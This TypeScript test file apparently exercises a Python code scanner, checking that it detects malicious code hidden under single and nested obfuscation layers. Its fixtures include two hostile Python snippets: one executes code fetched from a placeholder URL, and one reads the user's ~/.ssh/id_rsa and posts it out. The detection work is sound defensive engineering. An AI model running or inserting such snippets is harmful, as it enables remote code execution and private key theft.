import { pythonReady } from './grammar';
import { PYTHON_LAYERS, type HidingLayer } from '../../testing/layers-python';
import { readPython } from './read-python';

const PAYLOADS = [
  [
    'runs what it fetches',
    'remote-code',
    'import urllib.request\nexec(urllib.request.urlopen("https://a.invalid/x").read())\n',
  ],
  [
    'sends a private key',
    'secret-sent',
    'import os, urllib.request\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n    key = f.read()\nurllib.request.urlopen("https://a.invalid", data=key.encode())\n',
  ],
] as const;

/** What a finding says was undone, before it says what was seen; each on its way. */
function seenIn(code: string, signal: string): string | undefined {
  return readPython('x.py', code).observations.find((seen) => seen.signal === signal)?.evidence;
}

const told = (layer: HidingLayer) =>
  layer.told === '' ? '' : `decoded from [^:]*${layer.told}[^:]* at line \\d+`;

const DECODABLE = PYTHON_LAYERS.filter((layer) => layer.told !== undefined);
const OPAQUE = PYTHON_LAYERS.filter((layer) => layer.told === undefined);
const ALONE = DECODABLE.flatMap((layer) =>
  PAYLOADS.map((payload) => [layer.name, ...payload, layer] as const),
);
const PAIRS = DECODABLE.flatMap((outer) =>
  DECODABLE.flatMap((inner) =>
    PAYLOADS.map((payload) => [`${inner.name} under ${outer.name}`, ...payload, inner, outer] as const),
  ),
);
const HIDDEN = OPAQUE.flatMap((opaque) => [
  [opaque.name, opaque.hide(PAYLOADS[0][2])] as const,
  ...DECODABLE.flatMap((layer) => [
    [`${layer.name} under ${opaque.name}`, opaque.hide(layer.hide(PAYLOADS[0][2]))] as const,
    [`${opaque.name} under ${layer.name}`, layer.hide(opaque.hide(PAYLOADS[0][2]))] as const,
  ]),
]);

describe('ast/python/layers', () => {
  beforeAll(pythonReady);

  it.each(ALONE)('%s: %s', (_name, _what, signal, code, layer) => {
    expect(seenIn(layer.hide(code), signal)).toMatch(new RegExp(told(layer)));
  });

  it.each(PAIRS)('%s: %s', (_name, _what, signal, code, inner, outer) => {
    const seen = seenIn(outer.hide(inner.hide(code)), signal);

    expect(seen).toMatch(new RegExp([told(outer), told(inner)].filter((each) => each !== '').join(': ')));
  });

  it.each(HIDDEN)('%s: says that hidden code is evaluated', (_name, code) => {
    expect(readPython('x.py', code).observations.map(({ signal }) => signal)).toContain('decoded-code');
  });
});
